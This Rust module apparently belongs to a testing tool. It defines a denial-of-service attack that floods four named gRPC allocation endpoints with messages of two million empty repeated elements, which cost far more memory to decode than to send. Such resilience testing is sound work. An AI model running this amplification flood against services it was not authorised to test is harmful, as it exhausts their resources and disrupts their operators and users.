//! Messages of very many empty elements.

use std::time::Duration;

use anyhow::Result;
use futures_util::future::LocalBoxFuture;

use crate::attack::{Attack, AttackTarget};
use crate::flood::{CallerFlood, WINDOW_SMALL};
use crate::wire;

/// Elements of one message: of two bytes each, less than 4 MiB.
const ELEMENTS: usize = 2_000_000;

/// Calls, and the number of the repeated field that is filled.
const CALLS: [(&str, u8); 4] = [
    (
        "/earmark.allocation.v1.AllocationService/SubmitAllocations",
        2,
    ),
    (
        "/earmark.allocation.v1.AllocationService/ListClientAllocations",
        2,
    ),
    ("/earmark.cas.v1.CasAllocationService/SearchAllocations", 1),
    ("/earmark.cas.v1.CasAllocationService/PatchAllocation", 2),
];

/// Messages of two million empty items, filter values, criteria or operations: decoded, each takes many times the two
/// bytes that it has on the wire.
pub(crate) struct ItemsAttack;

impl Attack for ItemsAttack {
    fn name(&self) -> &'static str {
        "items"
    }

    fn run<'t>(&'t self, target: &'t AttackTarget) -> LocalBoxFuture<'t, Result<()>> {
        let flood = CallerFlood {
            connections: 1,
            callers: CALLS.len(),
            window: WINDOW_SMALL,
            pause: Duration::from_millis(50),
        };
        // The key of a field of bytes, and the length 0.
        let bodies =
            CALLS.map(|(_, field)| wire::frame_bytes(&[field << 3 | 2, 0].repeat(ELEMENTS)));
        Box::pin(flood.run(target, async move |mut sender, caller| {
            let (path, _) = CALLS[caller % CALLS.len()];
            let head = wire::head(target, path, Some(&target.token))?;
            wire::call(&mut sender, head, bodies[caller % CALLS.len()].clone()).await?;
            Ok(())
        }))
    }
}
